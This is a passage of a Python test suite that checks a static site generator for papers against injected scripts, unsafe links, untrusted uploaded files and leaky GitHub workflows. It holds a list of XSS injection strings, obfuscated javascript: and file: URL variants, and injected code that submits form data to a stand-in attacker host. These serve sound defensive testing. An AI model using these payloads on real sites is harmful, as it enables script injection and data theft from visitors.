    with Visit(browser, copied, "news/injected/") as seen:
        for name in ("link", "form"):
            seen.page.evaluate(f"document.getElementById('{name}').click()")
        refused(seen, markup, EVIL)
        assert seen.page.url == f"{LOCAL}/news/injected/"


def refused(seen: Visit, code: str, *hosts: str) -> None:
    """Wait until the browser has told of each address in the code; refuse any effect of it."""
    tried = {url for host in hosts for url in re.findall(rf"{host}/[\w.]+", code)} - UNTOLD
    for _ in range(200):
        if all(url in "\n".join(seen.said) for url in tried):
            break
        seen.page.wait_for_timeout(20)
    assert {url for url in tried if url not in "\n".join(seen.said)} == set()
    assert seen.page.evaluate("window.evil") is None
    assert [url for url in seen.asked if not url.startswith(f"{LOCAL}/")] == []


def test_policy_stops_what_a_script_would_do(browser, copied):
    """Injected code sends data to another host, or loads more code."""
    acts = dict(ACTS) | {
        "form": f"document.body.insertAdjacentHTML('beforeend', '<form action={EVIL}/form>"
        "<input name=a value=b></form>'); [...document.forms].pop().submit()",
    }
    # A file of the site, whose scripts run: a browser's own tools would be let through.
    late = [
        f"setTimeout(() => {{ acted++; {code}; }}, {n});" for n, code in enumerate(acts.values())
    ]
    code = "".join(["window.acted = 0;", *late])
    (copied.output / "acts.js").write_text(code, encoding="utf-8")
    inject(copied, "<script src=/acts.js defer></script>")
    with Visit(browser, copied, "news/injected/") as seen:
        until(seen.page, f"window.acted === {len(acts)}")
        refused(seen, code, EVIL, SOCKET)
        assert seen.page.url.startswith(f"{LOCAL}/")


def test_policy_lets_the_site_work(browser, many_papers):
    """The policy blocks parts of the site: search, filters, copying, videos, formulas."""

    def visit(path: str) -> Visit:
        return Visit(browser, many_papers, path, permissions=["clipboard-write"])

    def quiet(seen: Visit) -> None:
        # The browser reports what the policy blocks in its console.
        assert seen.said == []

    with visit("search/?q=engines") as seen:
        seen.page.locator(".search li > a").first.wait_for()
        quiet(seen)
    with visit("publications/") as seen:
        seen.page.locator(".filters a", has_text="2023").click()
        until(seen.page, "document.querySelector('[role=status]').textContent.includes(' of ')")
        seen.page.locator(".filters input").fill("award")
        until(seen.page, "document.querySelectorAll('.card:not([hidden])').length < 3")
        quiet(seen)
    with visit("papers/video/") as seen:
        seen.page.get_by_role("button", name="Copy").click()
        until(seen.page, "!!document.querySelector('.copy').textContent.match('Copied|Sel')")
        seen.page.evaluate("document.querySelector('video').load()")
        until(seen.page, "document.querySelector('video').networkState !== 2")
        assert any(url.endswith(".mp4") for url in seen.asked)
        quiet(seen)
    with visit("cv/") as seen:
        seen.scroll()
        size = "document.querySelector('math').getBoundingClientRect().height"
        assert seen.page.evaluate(size) > 5
        face = "getComputedStyle(document.querySelector('.highlight .k, .highlight .nc')).color"
        assert seen.page.evaluate(face) != seen.page.evaluate(
            "getComputedStyle(document.body).color"
        )
        assert any(url.endswith("style.css") for url in seen.asked)
        quiet(seen)


@pytest.fixture(scope="module")
def many_papers(sample) -> Site:
    """The sample, whose papers are enough for filters."""
    assert sample.page("publications/").select(".filters")
    return sample


# --- Texts of strangers: RAW_HTML=no ---------------------------------------------------

STRANGE = {
    "tag": "A <b>tag</b>.\n\n<script>alert(1)</script>\n\n<div markdown=1>*x*</div>",
    "comment": "x <!-- comment --> y\n\n<!--\n<script>alert(2)</script>\n-->",
    "broken": "<img src=x onerror=alert(3)\n\n<a href='x' <b>\n\n</article>",
    "instruction": "<?php x ?>\n\n<![CDATA[<script>alert(4)</script>]]>\n\n<!DOCTYPE html>",
    "entity": "&lt;script&gt;alert(5)&lt;/script&gt; &#60;b&#62;",
    "attributes": '[x](https://example.org){: onclick="alert(6)" style="position:fixed" target=_top }'
    "\n\n# H {: onload=alert(7) style=color:red }\n\n*x*{: srcset=https://evil.example/x.png }",
    "list": "- x\n{: onclick=alert(8) formaction=javascript:alert(9) }",
    "fence": "``` { .python onclick=alert(10) use_pygments=false }\nx\n```",
    "fence null": '``` { .python pygments_formatter=null }\n<script>alert(11)</script>\n```',
    "fence name": '``` { .python filename="<script>alert(12)</script>" }\nx\n```',
    "fence class": "``` { .python cssclass='x\" onclick=\"alert(13)' }\nx\n```",
    "fence span": "``` { .python linespans='\"><script>alert(14)</script>' }\nx\n```",
    "fence prefix": "``` { .python classprefix='\"><script>alert(15)</script>' }\nx\n```",
    "fence style": "``` { .python cssstyles='\" onclick=\"alert(16)' prestyles='x' }\nx\n```",
    "fence table": "``` { .python linenos=table cssclass='x\"><b onclick=\"alert(17)' }\nx\n```",
    "fence id": "``` { .x\" #y\" onclick='alert(18)' use_pygments=no }\nx\n```",
    "admonition": '!!! note" onclick="alert(19) "<script>alert(20)</script>"\n    <b>x</b>',
    "footnote": 'x[^"><b>]\n\n[^"><b>]: <script>alert(21)</script>',
    "abbreviation": 'HTML\n\n*[HTML]: "><script>alert(22)</script>',
    "table": '| <b>a</b> | "><script> |\n|:--|---|\n| <i>x</i> | y |',
    "caption": "![A dog on the grass]({static}/images/a.png \"<b onclick='alert(23)'>x</b>\")",
    "alternative": '!["><script>alert(24)</script>]({static}/images/a.png)',
    "citation": '[@a"><script>]: x\n\n[see <b>x</b> @a, p. <i>3</i>]',
    "formula": r"$<script>alert(25)</script>$ and $\text{<b>x</b>}$",
    "autolink": "<https://example.org/\"onclick=alert(26)> <b@example.org>",
    "title": "[x](https://example.org \"' onclick='alert(27)\")",
    "reference": "[x][y]\n\n[y]: https://example.org '\"><b>'",
    "contents": "[TOC]\n\n## <b>x</b> \"><script>alert(28)</script>",
    "definition": "<b>x</b>\n:   <script>alert(29)</script>",
    "placeholder": "wzxhzdk:0 klzzwxh:0001 {{ 7*7 }}",
}  # fmt: skip
PLAIN = set(
    "article p time h1 h2 h3 a sup sub code pre span div table thead tbody tr th td ul ol li hr "
    "em strong abbr figure figcaption img cite blockquote dl dt dd br".split()
)


@pytest.fixture(scope="module")
def strangers():
    """The reader of Markdown as it reads texts that nobody trusts."""
    settings = read_settings(str(ROOT / CONFS[0]), override={"RAW_HTML": False})
    return PapersReader(settings)


@pytest.mark.parametrize("name", STRANGE)
def test_texts_of_strangers(strangers, tmp_path, name):
    """A tag or a harmful attribute of a stranger's text gets into a page."""
    strangers.settings["PATH"] = str(tmp_path)
    text = f"Title: T\nDate: 2026\nSummary: {STRANGE[name].splitlines()[0]}\n\n{STRANGE[name]}\n"
    path = write(tmp_path, {"news/n.md": text}) / "news" / "n.md"
    html, metadata = strangers.read(str(path))
    for text in (html, metadata.get("summary", "")):
        for element in BeautifulSoup(text, "html5lib").body(True):
            assert element.name in PLAIN, element
            for attribute, value in element.attrs.items():
                harmless = attribute == "style" and re.fullmatch("text-align: [a-z]+;", value)
                assert not attribute.startswith("on"), element
                assert harmless or attribute not in ("style", "formaction", "target"), element
                assert attribute not in ("srcset", "background", "name"), element


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)", "java&#115;cript:alert(1)", "&#x6a;avascript&colon;alert(1)",
        "JAVASCRIPT:alert(1)", "javascript&#58alert(1)", "&#1;javascript:alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "vbscript:x", "file:///etc",
        "data:text/html,x", "data:image/svg+xml,x", "blob:x", "\tjavascript:alert(1)",
    ],
)  # fmt: skip
@pytest.mark.parametrize("raw", ["yes", "no"])
def test_addresses_that_run(strangers, tmp_path, target, raw):
    """A link runs a script when somebody follows it."""
    reader = PapersReader(strangers.settings | {"RAW_HTML": raw == "yes", "PATH": str(tmp_path)})
    texts = [f"[x]({target})", f"[x](<{target}>)", f"![A dog]({target})", f"[x][y]\n\n[y]: {target}",
             f"<{target}>", f'*x*{{: href="{target}" }}']  # fmt: skip
    if raw == "yes":
        texts += [
            f'<a href="{target}">x</a>',
            f"<a href='{target}'>x</a>",
            f"<iframe src='{target}'>",
        ]
    for text in texts:
        path = write(tmp_path, {"n.md": f"Title: T\nDate: 2026\n\n{text}\n"}) / "n.md"
        html, metadata = reader.read(str(path))
        errors = [problem for problem in metadata["header"].problems if not problem.notice]
        for element in BeautifulSoup(html, "html5lib").body(True):
            for attribute in ADDRESSES & element.attrs.keys():
                plain = re.sub(r"[\x00-\x20]", "", element[attribute]).lower()
                assert errors or not re.match("(?:javascript|vbscript|data|file|blob):", plain), (
                    text
                )


def test_files_of_strangers(make):
    """A page, or a script that pages may run, comes in as a file."""
    page = "<html><head><title>x</title></head><body><script>alert(1)</script></body></html>"
    ends = "html htm xhtml HTML js mjs xml shtml xht xsl rdf svg".split()
    files = {f"extra/h{n}.{end}": page for n, end in enumerate(ends)}
    files |= {f"images/h{n}.{end}": page for n, end in enumerate(ends)}
    files |= {
        "pages/h.html": page,
        "news/h.rst": "H\n=\n\n:date: 2026\n\n.. raw:: html\n\n   <b>\n",
    }
    site = make(files, check=False, RAW_HTML="no")
    printed = site.printed.splitlines()
    assert site.code == 1
    untold = [
        name
        for name in files
        if not any(f"content/{name}: " in line and "[notice]" not in line for line in printed)
    ]
    assert untold == []


def test_a_comment_of_a_stranger(make):
    """A comment ends a build that shows it as text, with a word that is not true."""
    site = make({"news/h.md": f"{NEWS}\n<!-- A comment. -->\n"}, check=False, RAW_HTML="no")
    assert "the comment <!-- is never closed" not in site.printed


def test_ordinary_texts(tmp_path):
    """Tables, footnotes, callouts, code, figures, formulas, citations or contents come out otherwise
    where HTML is not allowed."""
    texts = sample_content()
    for name in (name for name in texts if name.endswith(".md")):
        texts[name] = re.sub(r"<details.*?</details>", "", texts[name], flags=re.DOTALL)
    content = write(tmp_path / "content", texts)
    settings = SAMPLE | {"CACHE_PATH": str(tmp_path / "cache")}
    sites = []
    for name in ("yes", "no"):
        site = build(content, tmp_path / name, settings=settings, SITEURL=LOCAL, RAW_HTML=name)
        assert site.code == 0, site.printed
        sites.append(site.files())
        sites[-1].pop("build.json")
    assert sites[0].keys() == sites[1].keys()
    assert [path for path in sites[0] if sites[0][path] != sites[1][path]] == []


# --- The workflow -----------------------------------------------------------------------


def test_workflows_hold_no_secrets():
    """A stranger's pull request reads a secret, writes somewhere, or runs what its title says."""
    for file in sorted((ROOT / ".github/workflows").glob("*.y*ml")):
        text = file.read_text(encoding="utf-8")
        assert not re.search(r"\bsecrets\b|toJSON\(github", text), file
        workflow = yaml.load(text, yaml.BaseLoader)
        on = workflow["on"]
        triggers = set([on] if isinstance(on, str) else on)
        # A pull request sees no token; a release, which only the owner starts, needs its own.
        assert "pull_request" not in triggers or not re.search("github.token|GITHUB_TOKEN", text)
        assert not triggers & {"pull_request_target", "workflow_run", "issue_comment", "issues"}
        assert workflow["permissions"] == {}
        for name, job in workflow["jobs"].items():
            for step in job["steps"]:
                # Only what is GitHub's own, or the workflow's, may be in a command.
                for used in re.findall(r"\$\{\{(.*?)\}\}", step.get("run", "")):
                    assert not re.search(r"github\.event|head_ref|inputs", used), (name, used)
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] == "false", name
            if "write" in job.get("permissions", {}).values():
                assert "pull_request" not in triggers or "!= 'pull_request'" in job["if"], name


if __name__ == "__main__":
    drive(Path(sys.argv[1]))
